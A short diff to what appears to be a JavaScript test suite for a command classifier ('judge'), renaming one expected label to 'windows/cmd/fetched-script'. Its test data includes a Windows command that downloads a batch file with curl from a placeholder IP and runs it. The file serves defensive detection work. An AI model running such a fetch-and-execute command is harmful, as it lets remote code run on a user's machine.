@@ -31,7 +31,7 @@ describe("judge", () => {
     [
       "who runs the file that another makes of what it fetches",
       "cmd /c curl -o %TEMP%\\a.bat http://203.0.113.7/a.bat & %TEMP%\\a.bat",
-      "windows/cmd/fetched-program",
+      "windows/cmd/fetched-script",
     ],
     [
       "who runs what comes out of an archive that another has fetched",
